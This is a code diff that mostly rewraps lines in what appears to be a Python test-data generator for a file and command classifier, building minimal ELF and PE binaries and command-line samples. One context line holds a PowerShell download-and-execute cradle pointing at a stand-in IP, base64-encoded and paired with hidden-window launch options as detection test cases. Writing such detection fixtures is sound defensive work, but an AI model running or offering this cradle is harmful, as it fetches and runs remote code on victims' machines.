@@ -47,10 +47,8 @@ def tool(*command: str) -> Make:
 # --- programs ---------------------------------------------------------------------------
 
 _HELLO = '#include <stdio.h>\nint main(int c, char **v) { printf("hello %d %s\\n", c, v[0]); return 0; }\n'
-_BARE = (
-    "void _start(void) { __asm__ volatile(\"mov $60,%eax; xor %edi,%edi; syscall\"); }\n"
-)
-_BARE_32 = "void _start(void) { __asm__ volatile(\"mov $1,%eax; xor %ebx,%ebx; int $0x80\"); }\n"
+_BARE = 'void _start(void) { __asm__ volatile("mov $60,%eax; xor %edi,%edi; syscall"); }\n'
+_BARE_32 = 'void _start(void) { __asm__ volatile("mov $1,%eax; xor %ebx,%ebx; int $0x80"); }\n'
 _LIBRARY = "__attribute__((constructor)) void go(void) {}\nint answer(void) { return 42; }\n"
 _BUILDS: dict[str, tuple[str, tuple[str, ...]]] = {
     "dynamic": (_HELLO, ("-O2",)),
@@ -90,15 +88,23 @@ def pe_file(*, dll: bool = False, net: bool = False, wide: bool = True, sections
     struct.pack_into("<2sHHHHHHHH", head, 0, b"MZ", 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8)
     struct.pack_into("<H", head, 24, 0x40)
     struct.pack_into("<I", head, 60, lfanew)
-    stub = b"\x0e\x1f\xba\x0e\0\xb4\t\xcd!\xb8\1L\xcd!This program cannot be run in DOS mode.\r\r\n$"
+    stub = (
+        b"\x0e\x1f\xba\x0e\0\xb4\t\xcd!\xb8\1L\xcd!This program cannot be run in DOS mode.\r\r\n$"
+    )
     head[64 : 64 + len(stub)] = stub
     size = 240 if wide else 224
     flags = 0x22 | (0x2000 if dll else 0) | (0 if wide else 0x100)
-    coff = struct.pack("<HHIIIHH", 0x8664 if wide else 0x14C, sections, 0x60000000, 0, 0, size, flags)
-    optional = struct.pack("<HBBIIIII", 0x20B if wide else 0x10B, 14, 20, 0x400, 0x400, 0, 0x1010, 0x1000)
+    coff = struct.pack(
+        "<HHIIIHH", 0x8664 if wide else 0x14C, sections, 0x60000000, 0, 0, size, flags
+    )
+    optional = struct.pack(
+        "<HBBIIIII", 0x20B if wide else 0x10B, 14, 20, 0x400, 0x400, 0, 0x1010, 0x1000
+    )
     optional += struct.pack("<Q", 0x180000000) if wide else struct.pack("<II", 0x2000, 0x10000000)
     image = 0x1000 * (sections + 1)
-    optional += struct.pack("<IIHHHHHHIIIIHH", 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, image, 0x400, 0, 3, 0x8160)
+    optional += struct.pack(
+        "<IIHHHHHHIIIIHH", 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, image, 0x400, 0, 3, 0x8160
+    )
     optional += struct.pack("<QQQQ" if wide else "<IIII", 0x100000, 0x1000, 0x100000, 0x1000)
     optional += struct.pack("<II", 0, 16)
     directories = bytearray(128)
@@ -116,11 +122,19 @@ def pe_file(*, dll: bool = False, net: bool = False, wide: bool = True, sections
 
 def _section(number: int, net: bool, rng: random.Random) -> bytes:
     if number == 0:
-        words = (b"\x55\x48\x89\xe5", b"\x48\x83\xec\x20", b"\x48\x8b\x0d", b"\xe8\0\0\0\0", b"\xc9\xc3\x90")
+        words = (
+            b"\x55\x48\x89\xe5",
+            b"\x48\x83\xec\x20",
+            b"\x48\x8b\x0d",
+            b"\xe8\0\0\0\0",
+            b"\xc9\xc3\x90",
+        )
         return b"".join(rng.choices(words, k=400))[:0x400].ljust(0x400, b"\xcc")
     if number == 1 and net:
         header = struct.pack("<IHHIII", 72, 2, 5, 0x2060, 0x200, 1)
-        return (bytes(8) + header + bytes(40) + b"BSJB\1\0\1\0\0\0\0\0\x0c\0\0\0v4.0.30319\0\0").ljust(0x400, b"\0")
+        return (
+            bytes(8) + header + bytes(40) + b"BSJB\1\0\1\0\0\0\0\0\x0c\0\0\0v4.0.30319\0\0"
+        ).ljust(0x400, b"\0")
     return b"KERNEL32.dll\0GetProcAddress\0LoadLibraryA\0VirtualAlloc\0".ljust(0x400, b"\0")
 
 
@@ -355,7 +369,11 @@ def commands() -> Iterator[Case]:
     inner = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')"
     text = base64.b64encode(inner.encode("utf-16-le")).decode()
     for option in _ENCODED:
-        for shell in ("powershell", "powershell.exe -NoP -NonI -W Hidden", "cmd /c start /min powershell"):
+        for shell in (
+            "powershell",
+            "powershell.exe -NoP -NonI -W Hidden",
+            "cmd /c start /min powershell",
+        ):
             line = f"{shell} {option} {text}".encode()
             yield Case(f"{shell} {option}", line, "powershell")
     for stream in ("Deflate", "Gzip"):
